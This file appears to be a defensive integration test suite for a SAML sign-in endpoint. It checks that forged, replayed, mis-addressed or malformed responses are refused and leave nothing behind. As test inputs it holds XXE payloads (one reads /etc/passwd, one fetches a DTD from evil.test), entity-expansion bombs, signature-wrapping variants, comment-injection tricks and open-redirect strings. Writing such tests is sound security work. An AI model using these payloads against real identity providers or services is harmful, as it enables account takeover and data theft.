import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import type { Express } from 'express';
import request, { type Response, type Test } from 'supertest';
import { createScimToken } from '../../src/org/credentials/credentials.service.js';
import { suspendMember } from '../../src/org/members/member-changes.service.js';
import { authApp, sessionFor } from '../support/auth.js';
import { db } from '../support/database.js';
import { makeMember, makeOrganization, tx } from '../support/factories.js';
import {
  attackerNameId,
  generateKeyPair,
  signElement,
  tamper,
  wrapSignature,
  type ResponseOptions,
  type TestKeyPair,
  type WrapVariant,
} from '../support/saml-idp.js';
import { postToAcs, ssoOrganization, startLogin, type SsoOrganization } from '../support/sso.js';

/**
 * SAML-NOTES' attack and bad-input table, row by row, against the real ACS over HTTP. Each case
 * asserts the status and error code, and that the response left no trace: no member, session,
 * SSO identity or account (for the emails the case asserts), no member changed, no AuthnRequest
 * burned, no assertion id recorded, and — where the ACS got as far as the Organization's
 * connection — the failure written to sso_connections.last_failure_reason. Negative cases answer
 * a live AuthnRequest (SP-initiated) so that they are refused for the attack itself, not merely
 * as IdP-initiated.
 */

const success = 'urn:oasis:names:tc:SAML:2.0:status:Success';

interface Footprint {
  members: number;
  memberVersions: number;
  sessions: number;
  identities: number;
  accounts: number;
  requests: number;
  assertions: number;
  accountsOfEmails: number;
  lastSuccessAt: string | null;
}

async function count(table: string): Promise<number> {
  const rows = await db()(table).count({ n: '*' });
  return Number(rows[0]!.n);
}

/** What a refused response must leave as it was; the counts span every Organization. */
async function footprint(org: SsoOrganization, emails: string[]): Promise<Footprint> {
  const lowered = [...new Set(emails.map((e) => e.toLowerCase()))];
  const ofEmails = lowered.length
    ? await db()('accounts')
        .whereRaw(`lower(email) in (${lowered.map(() => '?').join(', ')})`, lowered)
        .count({ n: '*' })
        .then((rows) => Number(rows[0]!.n))
    : 0;
  const versions = await db()('members').sum({ n: 'version' });
  const connection = await db()('sso_connections').where({ organization_id: org.id }).first('last_success_at');
  return {
    members: await count('members'),
    memberVersions: Number(versions[0]!.n),
    sessions: await count('sessions'),
    identities: await count('sso_identities'),
    accounts: await count('accounts'),
    requests: await count('saml_requests'),
    assertions: await count('saml_assertions'),
    accountsOfEmails: ofEmails,
    lastSuccessAt: connection?.last_success_at ? new Date(connection.last_success_at).toISOString() : null,
  };
}

interface Refusal {
  status: number;
  code: string;
  /** Emails the case asserts or aims at: no account may appear for them. */
  emails?: string[];
  /** Whether the ACS reached the connection and so records the failure (not for 413 / 404). */
  recorded?: boolean;
  /** What the message must say, where the code alone (saml_rejected) does not tell which check refused. */
  reason?: RegExp;
}

/** Posts, then checks the refusal and that nothing was created or changed. */
async function expectRefused(label: string, org: SsoOrganization, post: () => Test, expected: Refusal): Promise<Response> {
  await db()('sso_connections').where({ organization_id: org.id }).update({ last_failure_reason: null, last_failure_at: null });
  const emails = [...(expected.emails ?? []), attackerNameId];
  const before = await footprint(org, emails);
  const response = await post();
  assert.equal(response.status, expected.status, `${label}: status ${response.status}, body ${JSON.stringify(response.body)}`);
  assert.equal(response.body?.error?.code, expected.code, `${label}: error code (${response.body?.error?.message})`);
  if (expected.reason) assert.match(String(response.body?.error?.message), expected.reason, `${label}: refused for the attack itself`);
  assert.equal(response.body?.token, undefined, `${label}: no token`);
  assert.equal(response.headers['set-cookie'], undefined, `${label}: no session cookie`);
  assert.deepEqual(await footprint(org, emails), before, `${label}: nothing created or changed`);
  const connection = await db()('sso_connections').where({ organization_id: org.id }).first('last_failure_reason', 'last_failure_at');
  if (expected.recorded === false) {
    assert.equal(connection.last_failure_reason, null, `${label}: no failure recorded`);
  } else {
    assert.ok(String(connection.last_failure_reason).startsWith(`${expected.code}: `), `${label}: last_failure_reason is "${connection.last_failure_reason}"`);
    assert.ok(connection.last_failure_at, `${label}: last_failure_at set`);
  }
  return response;
}

const b64 = (text: string) => Buffer.from(text).toString('base64');
/** `tamper`, failing when the edit changed nothing (a case must not pass for want of its attack). */
const edited = (samlResponse: string, edit: (xml: string) => string) =>
  tamper(samlResponse, (xml) => {
    const changed = edit(xml);
    assert.notEqual(changed, xml, 'the edit changed nothing');
    return changed;
  });
const xmlOf = (samlResponse: string) => Buffer.from(samlResponse, 'base64').toString('utf8');
const newSamlId = () => `_${randomBytes(16).toString('hex')}`;
const minutes = (n: number) => new Date(Date.now() + n * 60_000);

/** A response built unsigned, edited as XML, then signed on the assertion with the IdP's own key: only the edit differs. */
function signedAfterEdit(org: SsoOrganization, options: Partial<ResponseOptions>, edit: (xml: string) => string): string {
  const assertionId = newSamlId();
  const unsigned = xmlOf(org.response({ ...options, sign: 'none', assertionId }));
  return b64(signElement(edit(unsigned), assertionId, org.idp));
}

/** node-saml looks InResponseTo up in Roster's request store before Roster consumes it (saml_request_unknown only wins a race). */
const inResponseToRefused = /InResponseTo is not valid/;

describe('SAML ACS under attack (SAML-NOTES attack and bad-input table)', () => {
  let app: Express;
  /** The Organization under attack: IdP-initiated off, JIT on. */
  let org: SsoOrganization;
  /** A second Organization: its IdP's key, its AuthnRequests, its verified domain. */
  let other: SsoOrganization;
  /** An Organization that accepts IdP-initiated sign-in. */
  let open: SsoOrganization;
  /** A key no Organization trusts. */
  let stranger: TestKeyPair;

  before(async function () {
    this.timeout(60_000);
    app = authApp();
    org = await ssoOrganization();
    other = await ssoOrganization();
    open = await ssoOrganization({ idpInitiatedEnabled: true });
    stranger = await generateKeyPair('Not the IdP');
  });

  /** SP-initiated step one at `target`: a live AuthnRequest id to answer. */
  const login = async (target: SsoOrganization = org) => (await startLogin(app, target)).requestId;
  const acs =
    (samlResponse: string, target: SsoOrganization = org) =>
    () =>
      postToAcs(app, target.id, samlResponse);

  describe('malformed SAMLResponse → 400 invalid_saml_response, nothing created', () => {
    const cases: Array<[string, () => Promise<() => Test>]> = [
      [
        'missing SAMLResponse',
        async () => () => request(app).post(`/sso/${org.id}/acs`).type('form').set('Accept', 'application/json').send({ RelayState: '/' }),
      ],
      ['empty SAMLResponse', async () => acs('')],
      ['non-base64 SAMLResponse', async () => acs('this is *not* base64!')],
      ['base64 of text that is not XML', async () => acs(b64('definitely not xml'))],
      ['base64 of truncated XML', async () => acs(b64(xmlOf(org.response({ inResponseTo: await login() })).slice(0, 400)))],
      ['XML whose root is not a samlp:Response', async () => acs(b64('<Envelope xmlns="urn:x"><Body/></Envelope>'))],
      [
        'SAMLResponse sent twice (an array, not a string)',
        async () => {
          const valid = encodeURIComponent(org.response({ inResponseTo: await login() }));
          return () =>
            request(app).post(`/sso/${org.id}/acs`).type('form').set('Accept', 'application/json').send(`SAMLResponse=${valid}&SAMLResponse=${valid}`);
        },
      ],
    ];
    for (const [label, make] of cases) {
      it(label, async () => {
        await expectRefused(label, org, await make(), { status: 400, code: 'invalid_saml_response' });
      });
    }
  });

  describe('DOCTYPE, XXE, entity expansion → 400 invalid_saml_response', () => {
    const cases: Array<[string, (xml: string) => string]> = [
      ['a DOCTYPE before a valid response', (xml) => `<!DOCTYPE samlp:Response>${xml}`],
      ['a lower-case doctype', (xml) => `<?xml version="1.0"?>\n<!doctype samlp:Response>${xml}`],
      [
        'XXE: an external entity in the NameID',
        (xml) => `<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&xxe;')}`,
      ],
      [
        'entity expansion ("billion laughs") in the NameID',
        (xml) =>
          `<!DOCTYPE r [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>` +
          xml.replace(/(<saml:NameID[^>]*>)[^<]*/, '$1&l9;'),
      ],
      ['a parameter entity fetching an external DTD', (xml) => `<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://evil.test/x.dtd"> %ext;]>${xml}`],
    ];
    for (const [label, edit] of cases) {
      it(label, async () => {
        const nameId = org.email();
        const samlResponse = edited(org.response({ inResponseTo: await login(), nameId }), edit);
        await expectRefused(label, org, acs(samlResponse), { status: 400, code: 'invalid_saml_response', emails: [nameId] });
      });
    }
  });

  describe('body over the limit → 413', () => {
    it('a SAMLResponse of 600 kB', async () => {
      await expectRefused('600 kB body', org, acs('A'.repeat(600 * 1024)), { status: 413, code: 'payload_too_large', recorded: false });
    });
    it('more form parameters than the ACS accepts', async () => {
      const body = Array.from({ length: 30 }, (_, i) => `p${i}=x`).join('&');
      await expectRefused('30 parameters', org, () => request(app).post(`/sso/${org.id}/acs`).type('form').set('Accept', 'application/json').send(body), {
        status: 413,
        code: 'payload_too_large',
        recorded: false,
      });
    });
  });

  describe('signature: unsigned, wrong key, another Organization’s key, tampered NameID or attribute → 401', () => {
    const cases: Array<[string, (inResponseTo: string, nameId: string, victim: string) => string, string]> = [
      ['unsigned', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, sign: 'none' }), 'saml_rejected'],
      ['signed with a key no Organization trusts', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, signWithKey: stranger }), 'saml_rejected'],
      [
        'signed by another Organization’s IdP, claiming this IdP as issuer (assertion signed)',
        (inResponseTo, nameId) =>
          other.idp.response({ acsUrl: org.sp.acsUrl, audience: org.sp.entityId, issuer: org.idp.entityId, sign: 'assertion', inResponseTo, nameId }),
        'saml_rejected',
      ],
      [
        'signed by another Organization’s IdP, claiming this IdP as issuer (response and assertion signed)',
        (inResponseTo, nameId) =>
          other.idp.response({ acsUrl: org.sp.acsUrl, audience: org.sp.entityId, issuer: org.idp.entityId, sign: 'both', inResponseTo, nameId }),
        'saml_rejected',
      ],
      [
        'tampered NameID (assertion signed)',
        (inResponseTo, nameId, victim) => edited(org.response({ inResponseTo, nameId }), (xml) => xml.replace(nameId, victim)),
        'saml_rejected',
      ],
      [
        'tampered NameID (response signed)',
        (inResponseTo, nameId, victim) => edited(org.response({ inResponseTo, nameId, sign: 'response' }), (xml) => xml.replace(nameId, victim)),
        'saml_rejected',
      ],
      [
        'tampered email attribute',
        (inResponseTo, nameId, victim) =>
          edited(org.response({ inResponseTo, nameId, attributes: { email: nameId } }), (xml) => xml.replace(`xs:string">${nameId}<`, `xs:string">${victim}<`)),
        'saml_rejected',
      ],
      [
        'tampered name attribute',
        (inResponseTo, nameId) =>
          edited(org.response({ inResponseTo, nameId, attributes: { firstName: 'Grace' } }), (xml) => xml.replace('>Grace<', '>Mallory<')),
        'saml_rejected',
      ],
    ];
    for (const [label, make, code] of cases) {
      it(label, async () => {
        const nameId = org.email();
        const victim = org.email();
        const samlResponse = make(await login(), nameId, victim);
        await expectRefused(label, org, acs(samlResponse), { status: 401, code, emails: [nameId, victim], reason: /Invalid signature/ });
      });
    }
  });

  describe('signature wrapping and two assertions → 401', () => {
    const variants: Array<[WrapVariant, ResponseOptions['sign'], string]> = [
      ['assertion-in-extensions', 'assertion', 'saml_several_assertions'],
      ['assertion-in-advice', 'assertion', 'saml_several_assertions'],
      ['assertion-in-status-detail', 'assertion', 'saml_several_assertions'],
      ['duplicate-id', 'assertion', 'saml_duplicate_id'],
      ['copied-signature', 'assertion', 'saml_rejected'],
      ['response-in-extensions', 'response', 'saml_several_assertions'],
    ];
    for (const [variant, sign, code] of variants) {
      it(`wrapping: ${variant}`, async () => {
        const nameId = org.email();
        const samlResponse = wrapSignature(org.response({ inResponseTo: await login(), nameId, sign }), variant);
        assert.ok(xmlOf(samlResponse).includes(attackerNameId));
        await expectRefused(variant, org, acs(samlResponse), {
          status: 401,
          code,
          emails: [nameId],
          ...(code === 'saml_rejected' ? { reason: /Invalid signature/ } : {}),
        });
      });
    }
    for (const extra of ['unsigned-sibling', 'unsigned-first'] as const) {
      it(`two assertions: ${extra}`, async () => {
        const nameId = org.email();
        const samlResponse = org.response({ inResponseTo: await login(), nameId, extraAssertion: extra });
        await expectRefused(extra, org, acs(samlResponse), { status: 401, code: 'saml_several_assertions', emails: [nameId] });
      });
    }
  });

  describe('addressing: wrong/missing Audience, wrong Issuer, wrong Destination/Recipient → 401', () => {
    const cases: Array<[string, (inResponseTo: string, nameId: string) => string, string]> = [
      ['wrong Audience', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, audience: 'https://evil.test/sp' }), 'saml_rejected'],
      ['another Organization’s Audience', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, audience: other.sp.entityId }), 'saml_rejected'],
      ['empty Audience', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, audience: '' }), 'saml_rejected'],
      [
        'missing AudienceRestriction (signed without it)',
        (inResponseTo, nameId) =>
          signedAfterEdit(org, { inResponseTo, nameId }, (xml) => xml.replace(/<saml:AudienceRestriction>.*<\/saml:AudienceRestriction>/, '')),
        'saml_rejected',
      ],
      [
        'wrong Issuer (assertion and response)',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, issuer: 'https://evil.test/idp' }),
        'saml_wrong_issuer',
      ],
      [
        'another Organization’s IdP as Issuer',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, issuer: other.idp.entityId }),
        'saml_wrong_issuer',
      ],
      [
        'wrong Response Issuer only',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, responseIssuer: 'https://evil.test/idp' }),
        'saml_wrong_issuer',
      ],
      ['wrong Destination', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, destination: 'https://evil.test/acs' }), 'saml_wrong_destination'],
      [
        'another Organization’s ACS as Destination',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, destination: other.sp.acsUrl }),
        'saml_wrong_destination',
      ],
      // SAML Bindings §3.5.5.2: a signed message carries Destination; a missing one is refused, not skipped.
      [
        'signed Response without Destination',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, sign: 'response', destination: null }),
        'saml_missing_destination',
      ],
      [
        'signed Response and Assertion without Destination',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, sign: 'both', destination: null }),
        'saml_missing_destination',
      ],
      [
        'wrong Destination on a signed Response',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, sign: 'response', destination: other.sp.acsUrl }),
        'saml_wrong_destination',
      ],
      ['wrong Recipient', (inResponseTo, nameId) => org.response({ inResponseTo, nameId, recipient: 'https://evil.test/acs' }), 'saml_wrong_recipient'],
      [
        'wrong Recipient, only the Assertion signed and no Destination',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, destination: null, recipient: other.sp.acsUrl }),
        'saml_wrong_recipient',
      ],
      [
        'another Organization’s ACS as Recipient',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, recipient: other.sp.acsUrl }),
        'saml_wrong_recipient',
      ],
      [
        'subject confirmed other than by bearer',
        (inResponseTo, nameId) => org.response({ inResponseTo, nameId, subjectConfirmationMethod: 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key' }),
        'saml_not_bearer',
      ],
    ];
    for (const [label, make, code] of cases) {
      it(label, async () => {
        const nameId = org.email();
        await expectRefused(label, org, acs(make(await login(), nameId)), {
          status: 401,
          code,
          emails: [nameId],
          ...(code === 'saml_rejected' ? { reason: /audience/i } : {}),
        });
      });
    }
    it('(control) only the Assertion signed, without Destination: accepted, the signed Recipient names this ACS', async () => {
      // The Bindings' rule is about signed messages; an unsigned Response's Destination proves nothing either way.
      await postToAcs(app, org.id, org.response({ inResponseTo: await login(), destination: null })).expect(200);
    });
  });

  describe('time: expired beyond skew, NotBefore in the future, too old IssueInstant → 401', () => {
    // node-saml checks SubjectConfirmationData's NotOnOrAfter (capped by IssueInstant + max age) before Conditions.
    const cases: Array<[string, () => Partial<ResponseOptions>, string, RegExp]> = [
      [
        'expired 3 minutes ago (skew is 90 s)',
        () => ({ issueInstant: minutes(-8), notBefore: minutes(-8), notOnOrAfter: minutes(-3) }),
        'saml_confirmation_expired',
        /NotOnOrAfter/,
      ],
      ['NotBefore 5 minutes in the future', () => ({ notBefore: minutes(5) }), 'saml_rejected', /not yet valid/],
      [
        'IssueInstant 30 minutes old, still within NotOnOrAfter (max age is 10 min)',
        () => ({ issueInstant: minutes(-30), notBefore: minutes(-30), notOnOrAfter: minutes(5) }),
        'saml_rejected',
        /no valid subject confirmation/i,
      ],
      ['a bearer SubjectConfirmationData without NotOnOrAfter', () => ({ subjectNotOnOrAfter: null }), 'saml_confirmation_unbounded', /NotOnOrAfter/],
    ];
    for (const [label, times, code, reason] of cases) {
      it(label, async () => {
        const nameId = org.email();
        await expectRefused(label, org, acs(org.response({ inResponseTo: await login(), nameId, ...times() })), {
          status: 401,
          code,
          emails: [nameId],
          reason,
        });
      });
    }
    describe('SubjectConfirmationData NotOnOrAfter past beyond the skew, Conditions still valid → 401 on every path', () => {
      /** Only the bearer confirmation has run out: node-saml's own check covers the SP-initiated path alone. */
      const expiredConfirmation = () => ({ subjectNotOnOrAfter: minutes(-3), notOnOrAfter: minutes(5) });
      for (const path of ['SP-initiated', 'IdP-initiated'] as const) {
        it(`${path}: refused, nothing created, and the Organization's admins read why in GET /api/v1/sso`, async () => {
          const target = path === 'SP-initiated' ? org : open;
          const admin = await sessionFor(app, target.id, target.admin.userName);
          const nameId = target.email();
          const inResponseTo = path === 'SP-initiated' ? { inResponseTo: await login(target) } : {};
          await expectRefused(path, target, acs(target.response({ nameId, ...inResponseTo, ...expiredConfirmation() }), target), {
            status: 401,
            code: 'saml_confirmation_expired',
            emails: [nameId],
          });
          assert.equal(await db()('sso_identities').where({ organization_id: target.id, name_id: nameId }).first(), undefined, 'no SSO identity');
          const sso = await request(app).get('/api/v1/sso').set('Authorization', `Bearer ${admin}`).expect(200);
          assert.match(String(sso.body.status.lastFailureReason), /^saml_confirmation_expired: .*NotOnOrAfter/);
          assert.ok(sso.body.status.lastFailureAt);
        });
      }
      it('(control) IdP-initiated, the confirmation ran out 60 s ago, within the 90 s skew: accepted', async () => {
        await postToAcs(app, open.id, open.response({ subjectNotOnOrAfter: minutes(-1), notOnOrAfter: minutes(5) })).expect(200);
      });
    });

    it('(control) expired 30 s ago, within the skew, is accepted: the refusals above are about time', async () => {
      await postToAcs(
        app,
        org.id,
        org.response({ inResponseTo: await login(), issueInstant: minutes(-4), notBefore: minutes(-4), notOnOrAfter: minutes(-0.5) }),
      ).expect(200);
    });
  });

  describe('replay and InResponseTo: replayed, unknown, used, expired, foreign → 401', () => {
    it('the same response posted again (SP-initiated)', async () => {
      const nameId = org.email();
      const samlResponse = org.response({ inResponseTo: await login(), nameId });
      await postToAcs(app, org.id, samlResponse).expect(200);
      await expectRefused('replay', org, acs(samlResponse), { status: 401, code: 'saml_rejected', emails: [nameId], reason: inResponseToRefused });
    });

    it('a used assertion id answering a fresh, live AuthnRequest (which stays live)', async () => {
      const assertionId = newSamlId();
      const nameId = org.email();
      await postToAcs(app, org.id, org.response({ inResponseTo: await login(), nameId, assertionId })).expect(200);
      const fresh = await login();
      await expectRefused('replayed assertion id', org, acs(org.response({ inResponseTo: fresh, nameId, assertionId })), {
        status: 401,
        code: 'saml_replayed',
        emails: [nameId],
      });
      assert.equal(
        await db()('saml_requests')
          .where({ organization_id: org.id, request_id: fresh })
          .count({ n: '*' })
          .then((r) => Number(r[0]!.n)),
        1,
      );
    });

    it('the same response posted again (IdP-initiated, Organization allows it)', async () => {
      const nameId = open.email();
      const samlResponse = open.response({ nameId });
      await postToAcs(app, open.id, samlResponse).expect(200);
      await expectRefused('IdP-initiated replay', open, acs(samlResponse, open), { status: 401, code: 'saml_replayed', emails: [nameId] });
    });

    it('an InResponseTo Roster never sent', async () => {
      const nameId = org.email();
      await expectRefused('unknown InResponseTo', org, acs(org.response({ inResponseTo: newSamlId(), nameId })), {
        status: 401,
        code: 'saml_rejected',
        emails: [nameId],
        reason: inResponseToRefused,
      });
    });

    it('an unknown or foreign InResponseTo where IdP-initiated sign-in is on', async () => {
      const nameId = open.email();
      for (const [label, inResponseTo] of [
        ['unknown InResponseTo (IdP-initiated on)', newSamlId()],
        ['foreign InResponseTo (IdP-initiated on)', await login(org)],
      ] as const) {
        await expectRefused(label, open, acs(open.response({ inResponseTo, nameId }), open), {
          status: 401,
          code: 'saml_rejected',
          emails: [nameId],
          reason: inResponseToRefused,
        });
      }
    });

    it('an InResponseTo already answered (a new assertion for a used request)', async () => {
      const inResponseTo = await login();
      await postToAcs(app, org.id, org.response({ inResponseTo })).expect(200);
      const nameId = org.email();
      await expectRefused('used InResponseTo', org, acs(org.response({ inResponseTo, nameId })), {
        status: 401,
        code: 'saml_rejected',
        emails: [nameId],
        reason: inResponseToRefused,
      });
    });

    it('an expired InResponseTo', async () => {
      const inResponseTo = await login();
      await db()('saml_requests')
        .where({ organization_id: org.id, request_id: inResponseTo })
        .update({ expires_at: minutes(-1) });
      const nameId = org.email();
      await expectRefused('expired InResponseTo', org, acs(org.response({ inResponseTo, nameId })), {
        status: 401,
        code: 'saml_rejected',
        emails: [nameId],
        reason: inResponseToRefused,
      });
    });

    it('a foreign InResponseTo: a request another Organization started (which stays live for it)', async () => {
      const foreign = await login(other);
      const nameId = org.email();
      await expectRefused('foreign InResponseTo', org, acs(org.response({ inResponseTo: foreign, nameId })), {
        status: 401,
        code: 'saml_rejected',
        emails: [nameId],
        reason: inResponseToRefused,
      });
      assert.equal(
        await db()('saml_requests')
          .where({ organization_id: other.id, request_id: foreign })
          .count({ n: '*' })
          .then((r) => Number(r[0]!.n)),
        1,
      );
    });
  });

  describe('policy: IdP-initiated while disabled, SHA-1, non-Success status → 401, nothing created', () => {
    it('IdP-initiated (no InResponseTo) while the Organization has it off', async () => {
      const nameId = org.email();
      await expectRefused('IdP-initiated', org, acs(org.response({ nameId })), { status: 401, code: 'idp_initiated_disabled', emails: [nameId] });
    });
    for (const sign of ['assertion', 'response'] as const) {
      it(`SHA-1 signature and digest (${sign} signed)`, async () => {
        const nameId = org.email();
        await expectRefused('SHA-1', org, acs(org.response({ inResponseTo: await login(), nameId, sign, signatureAlgorithm: 'sha1' })), {
          status: 401,
          code: 'saml_sha1_refused',
          emails: [nameId],
        });
      });
    }
    for (const status of [
      'urn:oasis:names:tc:SAML:2.0:status:Requester',
      'urn:oasis:names:tc:SAML:2.0:status:Responder',
      'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed',
    ]) {
      it(`status ${status.split(':').pop()}`, async () => {
        assert.notEqual(status, success);
        const nameId = org.email();
        await expectRefused(status, org, acs(org.response({ inResponseTo: await login(), nameId, status })), {
          status: 401,
          code: 'saml_not_success',
          emails: [nameId],
        });
      });
    }
  });

  describe('identity: email outside the Organization’s verified domains → 403, no member, no link, no account', () => {
    const cases: Array<[string, () => { nameId: string; samlResponse: (inResponseTo: string) => string; emails: string[] }]> = [
      [
        'an unrelated domain',
        () => ({ nameId: 'someone@elsewhere.test', samlResponse: (i) => org.response({ inResponseTo: i, nameId: 'someone@elsewhere.test' }), emails: [] }),
      ],
      [
        'a look-alike subdomain: x@<domain>.evil.test',
        () => {
          const nameId = `${randomBytes(3).toString('hex')}@${org.domain}.evil.test`;
          return { nameId, samlResponse: (i) => org.response({ inResponseTo: i, nameId }), emails: [] };
        },
      ],
      [
        'a@<domain><!---->.evil.test as the signed NameID text',
        () => {
          const local = randomBytes(3).toString('hex');
          const nameId = `${local}@${org.domain}<!---->.evil.test`;
          return {
            nameId,
            samlResponse: (i) => org.response({ inResponseTo: i, nameId }),
            emails: [`${local}@${org.domain}`, `${local}@${org.domain}.evil.test`],
          };
        },
      ],
      [
        'a@<domain><!---->.evil.test: a comment injected into the NameID after signing (c14n drops it, the signature holds)',
        () => {
          const local = randomBytes(3).toString('hex');
          const signedFor = `${local}@${org.domain}.evil.test`;
          return {
            nameId: signedFor,
            samlResponse: (i) =>
              edited(org.response({ inResponseTo: i, nameId: signedFor }), (xml) => xml.replace(`>${signedFor}<`, `>${local}@${org.domain}<!---->.evil.test<`)),
            emails: [`${local}@${org.domain}`],
          };
        },
      ],
      [
        'a@<domain><!---->.evil.test: a comment injected into the email attribute after signing',
        () => {
          const local = randomBytes(3).toString('hex');
          const signedFor = `${local}@${org.domain}.evil.test`;
          return {
            nameId: signedFor,
            samlResponse: (i) =>
              edited(org.response({ inResponseTo: i, nameId: signedFor, attributes: { email: signedFor } }), (xml) =>
                xml.replace(`xs:string">${signedFor}<`, `xs:string">${local}@${org.domain}<!---->.evil.test<`),
              ),
            emails: [`${local}@${org.domain}`],
          };
        },
      ],
      [
        'another Organization’s verified domain',
        () => {
          const nameId = other.email();
          return { nameId, samlResponse: (i) => org.response({ inResponseTo: i, nameId }), emails: [] };
        },
      ],
      [
        'the email of this Organization’s admin, an existing member and account off the verified domains',
        () => ({ nameId: org.admin.userName, samlResponse: (i) => org.response({ inResponseTo: i, nameId: org.admin.userName }), emails: [] }),
      ],
    ];
    for (const [label, make] of cases) {
      it(label, async () => {
        const built = make();
        const samlResponse = built.samlResponse(await login());
        const response = await expectRefused(label, org, acs(samlResponse), {
          status: 403,
          code: 'email_domain_not_verified',
          emails: [...built.emails, ...(label.includes('admin') ? [] : [built.nameId])],
        });
        assert.equal(response.status, 403);
        assert.equal(await db()('sso_identities').where({ organization_id: org.id, name_id: built.nameId }).first(), undefined, `${label}: no SSO identity`);
      });
    }
  });

  describe('lifecycle: a member suspended by SCIM → 403', () => {
    it('is refused, keeps no live session, and nothing about them changes', async () => {
      const scimOrg = await ssoOrganization();
      await tx((t) => createScimToken(t, { type: 'system', id: 'test' }, scimOrg.id));
      const member = await makeMember(scimOrg.id, { source: 'scim', profile: { userName: scimOrg.email(), name: { givenName: 'Ada' } } });
      await postToAcs(app, scimOrg.id, scimOrg.response({ inResponseTo: await login(scimOrg), nameId: member.userName })).expect(200);
      await tx((t) => suspendMember(t, { type: 'scim_token', id: 'idp' }, scimOrg.id, member.id));
      const live = await db()('sessions').where({ member_id: member.id }).whereNull('revoked_at').where('expires_at', '>', new Date());
      assert.equal(live.length, 0, 'suspension ends the member’s sessions');
      await expectRefused(
        'suspended member',
        scimOrg,
        acs(scimOrg.response({ inResponseTo: await login(scimOrg), nameId: member.userName, attributes: { firstName: 'Changed' } }), scimOrg),
        {
          status: 403,
          code: 'member_suspended',
        },
      );
      const after = await db()('members').where({ id: member.id }).first();
      assert.equal(after.status, 'suspended');
      assert.equal(after.given_name, 'Ada');
    });
  });

  describe('unknown Organization → 404', () => {
    it('a random id, a malformed id, an Organization without a connection', async () => {
      const bare = await makeOrganization();
      const samlResponse = org.response({ inResponseTo: await login() });
      for (const organizationId of [crypto.randomUUID(), 'not-an-id', bare.id]) {
        await expectRefused(`organization ${organizationId}`, org, () => postToAcs(app, organizationId, samlResponse), {
          status: 404,
          code: 'sso_connection_not_found',
          recorded: false,
        });
      }
    });
  });

  describe('RelayState pointing to another origin → redirect to / only', () => {
    for (const relayState of [
      'https://evil.test/',
      '//evil.test/x',
      '/\\evil.test',
      '\\\\evil.test',
      'https:evil.test',
      ' //evil.test',
      '/\t/evil.test',
      'javascript:alert(1)',
    ]) {
      it(JSON.stringify(relayState), async () => {
        const { requestId, location } = await startLogin(app, org, relayState);
        assert.equal(new URL(location).searchParams.get('RelayState'), '/', 'the AuthnRequest carries only a checked RelayState');
        const posted = await postToAcs(app, org.id, org.response({ inResponseTo: requestId }), { relayState, json: false }).expect(303);
        assert.equal(posted.headers.location, '/');
        assert.match(String(posted.headers['set-cookie']), /roster_session=/, 'the sign-in itself succeeded');
      });
    }
  });

  describe('5 parallel posts of one valid response → exactly one success', () => {
    async function race(target: SsoOrganization, inResponseTo?: string) {
      const nameId = target.email();
      const samlResponse = target.response({ nameId, ...(inResponseTo ? { inResponseTo } : {}) });
      const before = await footprint(target, [nameId]);
      const responses = await Promise.all(Array.from({ length: 5 }, () => postToAcs(app, target.id, samlResponse)));
      const statuses = responses.map((r) => r.status).sort();
      assert.deepEqual(statuses, [200, 401, 401, 401, 401], JSON.stringify(responses.map((r) => r.body)));
      const after = await footprint(target, [nameId]);
      assert.equal(after.members - before.members, 1, 'one member');
      assert.equal(after.sessions - before.sessions, 1, 'one session');
      assert.equal(after.accountsOfEmails - before.accountsOfEmails, 1, 'one account');
      assert.equal(after.assertions - before.assertions, 1, 'one assertion id recorded');
      return responses.filter((r) => r.status === 401).map((r) => r.body.error.code as string);
    }
    it('SP-initiated', async () => {
      const inResponseTo = await login();
      const codes = await race(org, inResponseTo);
      assert.equal(await db()('saml_requests').where({ organization_id: org.id, request_id: inResponseTo }).first(), undefined, 'the request is used up');
      for (const code of codes) assert.ok(['saml_rejected', 'saml_request_unknown', 'saml_replayed'].includes(code), code);
    });
    it('IdP-initiated, Organization allows it', async () => {
      const codes = await race(open);
      assert.deepEqual(codes, ['saml_replayed', 'saml_replayed', 'saml_replayed', 'saml_replayed']);
    });
  });
});
